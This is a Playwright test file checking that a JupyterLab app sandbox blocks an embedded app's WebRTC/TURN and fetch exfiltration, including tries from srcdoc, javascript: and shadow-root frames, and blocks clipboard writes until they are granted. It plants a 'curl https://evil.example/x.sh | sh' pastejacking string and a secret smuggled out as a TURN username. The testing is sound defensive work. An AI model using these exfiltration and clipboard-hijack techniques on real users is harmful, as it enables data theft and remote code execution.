"""What the Content Security Policy does not govern, shut in a real JupyterLab in Chromium:
an app that declared no network sends nothing over WebRTC to a TURN/STUN listener on 127.0.0.1
(nor from frames of its own: ``srcdoc``, ``javascript:``, in a closed or a declarative shadow
root), while the same app with ``connectDomains`` declared does; its ``fetch`` reaches no HTTP
listener either; and an app writes nothing to the clipboard (``execCommand("copy")``, a copy
event's ``clipboardData``, ``navigator.clipboard``) until the person granted ``clipboardWrite``.
"""

from __future__ import annotations

import html
import http.server
import json
import socket
import threading

import pytest

pytestmark = pytest.mark.once

try:
    from playwright.sync_api import expect
except ImportError:  # every test then fails in the browser fixture, saying how to install it
    expect = None

#: What the app tries to carry out (a tool's result, say).
SECRET = "the-result-42"
EVIL = "curl https://evil.example/x.sh | sh"


class UdpListener:
    """Counts the datagrams that reach a UDP port on 127.0.0.1 (a TURN or STUN server's)."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                data, _ = self.socket.recvfrom(65536)
            except OSError:
                return
            self.received.append(data)

    def close(self) -> None:
        self.socket.close()


class HttpListener:
    """Records the paths an HTTP server on 127.0.0.1 was asked for."""

    def __init__(self):
        paths = self.paths = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the standard library's name
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listeners():
    made = [UdpListener(), UdpListener(), HttpListener()]
    yield made
    for listener in made:
        listener.close()


def webrtc_app(udp: int, http_port: int) -> str:
    """An app that tries WebRTC to ``udp`` from its own window and from frames it makes, and
    ``fetch`` to ``http_port``; it says what it heard back from its frames."""
    send = (
        "try { const p = new RTCPeerConnection({iceServers: ["
        f"{{urls: 'turn:127.0.0.1:{udp}?transport=udp', username: '{SECRET}', credential: 'x'}},"
        f"{{urls: 'stun:127.0.0.1:{udp}'}}]}});"
        " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
        " parent.postMessage('TAG ran', '*'); } catch (e) { parent.postMessage('TAG ' + e.name, '*'); }")
    framed = f"<script>{send.replace('TAG', 'declarative')}</script>"
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>
<p id="rtc">starting</p><p id="fetch"></p><p id="heard"></p>
<div><template shadowrootmode="closed"><iframe srcdoc="{html.escape(framed)}"></iframe></template></div>
<script>
const SEND = {json.dumps(send)};
const heard = [];
window.addEventListener("message", (event) => heard.push(String(event.data)));
const script = (tag) => "<script>" + SEND.replaceAll("TAG", tag) + "<\\/script>";
eval(SEND.replaceAll("TAG", "window").replaceAll("parent.postMessage", "heard.push").replaceAll(", '*')", ")"));
document.getElementById("rtc").textContent = typeof RTCPeerConnection;
const appended = document.createElement("iframe");
appended.srcdoc = script("appended");
document.body.appendChild(appended);
const parsed = document.createElement("div");
document.body.append(parsed);
parsed.innerHTML = "<iframe srcdoc='" + script("parsed").replace(/'/g, "&#39;") + "'></iframe>";
const javascript = document.createElement("iframe");
javascript.src = "javascript:" + encodeURIComponent(SEND.replaceAll("TAG", "javascript"));
document.body.append(javascript);
const host = document.createElement("div");
document.body.append(host);
const shadow = host.attachShadow({{mode: "closed"}});
const hidden = document.createElement("iframe");
hidden.srcdoc = script("shadow");
shadow.append(hidden);
fetch("http://127.0.0.1:{http_port}/{SECRET}").then(
  () => {{ document.getElementById("fetch").textContent = "fetch: sent"; }},
  () => {{ document.getElementById("fetch").textContent = "fetch: blocked"; }});
setTimeout(() => {{
  document.getElementById("heard").textContent = "heard: " + (heard.sort().join(", ") || "nothing");
}}, 3000);
</script></body></html>"""


def frame_cell(name: str, app: str, **kwargs) -> str:
    options = "".join(f", {key}={value!r}" for key, value in kwargs.items())
    return (f"from nb_elicit._ui.app_frame import AppFrame\n"
            f"{name} = AppFrame(html={app!r}{options})\n"
            f"{name}.add_class('nb-elicit-test-{name}')\n"
            f"{name}")


def app_of(lab, name: str):
    return lab.page.frame_locator(f".nb-elicit-test-{name} iframe").frame_locator("iframe")


def test_an_app_that_declared_no_network_sends_nothing_over_webrtc_or_fetch(lab, listeners):
    shut, opened, web = listeners
    lab.open(frame_cell("shut", webrtc_app(shut.port, web.port)),
             frame_cell("opened", webrtc_app(opened.port, web.port),
                        csp={"connectDomains": ["https://api.example"]}))
    lab.run(2)
    app = app_of(lab, "shut")
    # Its window has no RTCPeerConnection, and no frame of its own ran: each was removed before
    # its document could load (the declarative shadow root is inert, its frame never made).
    expect(app.locator("#rtc")).to_have_text("undefined")
    expect(app.locator("#heard")).to_have_text("heard: window ReferenceError")
    expect(app.locator("#fetch")).to_have_text("fetch: blocked")
    assert app.locator("iframe").count() == 0

    # The same app, with a connect domain declared: WebRTC is its to use, and packets arrive.
    lab.run(3)
    other = app_of(lab, "opened")
    expect(other.locator("#rtc")).to_have_text("function")
    expect(other.locator("#heard")).to_have_text("heard: window ran")
    lab.page.wait_for_function("() => true")  # (a turn of the page)
    for _ in range(600):  # (hang guard: 60 s)
        if opened.received:
            break
        lab.page.wait_for_timeout(100)
    assert opened.received, "the control app's WebRTC packets never arrived"
    # The app without network ran first, and sent nothing; nor did either app's fetch.
    assert shut.received == []
    assert web.paths == []


def clipboard_app() -> str:
    return f"""<!DOCTYPE html><html><body><p id="text">some text</p>
<button id="copy">Copy</button><p id="copied"></p>
<script>
const EVIL = {json.dumps(EVIL)};
document.addEventListener("copy", (event) => {{
  event.clipboardData.setData("text/plain", EVIL);
  event.preventDefault();
}});
document.getElementById("copy").addEventListener("click", async () => {{
  const area = document.createElement("textarea");
  area.value = EVIL;
  document.body.append(area);
  area.select();
  const copied = document.execCommand("copy");
  area.remove();
  let written;
  try {{
    await navigator.clipboard.writeText(EVIL);
    written = "written";
  }} catch (error) {{
    written = error.name;
  }}
  document.getElementById("copied").textContent = "execCommand: " + copied + ", writeText: " + written;
}});
</script></body></html>"""


def clipboard(lab) -> str:
    return lab.page.evaluate("navigator.clipboard.readText()")


def test_an_app_writes_nothing_to_the_clipboard_until_the_person_granted_it(lab):
    lab.page.context.grant_permissions(["clipboard-read", "clipboard-write"],
                                       origin=lab.server.url("/").rstrip("/"))
    lab.open(frame_cell("plain", clipboard_app()),
             frame_cell("granted", clipboard_app(), permissions={"clipboardWrite": {}}))
    lab.run(2)
    lab.page.evaluate("navigator.clipboard.writeText('what the person copied')")
    app = app_of(lab, "plain")
    app.locator("#copy").click()
    expect(app.locator("#copied")).to_have_text(
        "execCommand: false, writeText: NotAllowedError")
    # The person's own copy (Ctrl+C on a selection) is the browser's: the app does not hear it.
    app.locator("#text").select_text()
    lab.page.keyboard.press("Control+C")
    lab.page.locator("body").focus()
    assert clipboard(lab) in ("what the person copied", "some text")

    # Granted: the same app writes it (the control: the clipboard is read back here).
    lab.run(3)
    other = app_of(lab, "granted")
    other.locator("#copy").click()
    expect(other.locator("#copied")).to_have_text("execCommand: true, writeText: written")
    lab.page.locator("body").focus()
    assert clipboard(lab) == EVIL
